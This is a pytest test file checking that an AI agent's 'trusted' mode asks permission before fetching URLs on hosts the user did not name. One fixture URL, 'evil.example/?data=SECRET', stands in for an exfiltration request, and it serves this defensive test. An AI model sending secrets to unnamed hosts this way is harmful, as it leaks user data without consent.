"""In the mode that asks nothing, a host that nobody named is asked about before anything is sent to it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.support.acp_client import RawClient
from tests.support.fixtures.acp import Start
from tests.support.gate_calls import serving

ASK = "session/request_permission"
FETCH: dict[str, Any] = {"gates": ["done", "fetch"]}
TEXT = {"Content-Type": "text/plain"}


def fetch(url: str) -> dict[str, Any]:
    return {"tool_calls": [{"gate": "fetch", "args": {"url": url}}]}


def asked(agent: RawClient) -> int:
    return sum(message.get("method") == ASK for message in agent.seen)


def trusted(agent: RawClient, folder: Path) -> str:
    session = agent.session(folder)
    assert agent.call("session/set_mode", {"sessionId": session, "modeId": "trusted"}) == {}
    return session


def test_a_host_that_nobody_named_is_asked_about(start: Start, folder: Path) -> None:
    urls = ("https://evil.example/?data=SECRET", "https://secret.docs.example.org/", "http://docs.example.org/x")
    named = ("https://docs.example.org/page", "https://docs.example.org/other?q=1")
    agent = start([*map(fetch, (*named, *urls)), {"content": "Done."}], **FETCH)
    session = trusted(agent, folder)
    agent.prompt(session, "Read https://docs.example.org/page and notes.example.md for me.")
    # The client here answers no question, so nothing was sent.
    assert asked(agent) == len(urls)


def test_a_host_that_the_user_named_is_not_asked_about(
    start: Start, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with serving({"/page": (200, TEXT, b"the page")}) as site:
        monkeypatch.setenv("CANTRIP_FETCH_PRIVATE_HOSTS", site.host)
        agent = start([fetch(site.url("/page")), {"content": "Done."}], **FETCH)
        session = trusted(agent, folder)
        agent.prompt(session, f"Read {site.url('/page')}.")
        assert not asked(agent)
        assert len(site.asked) == 1
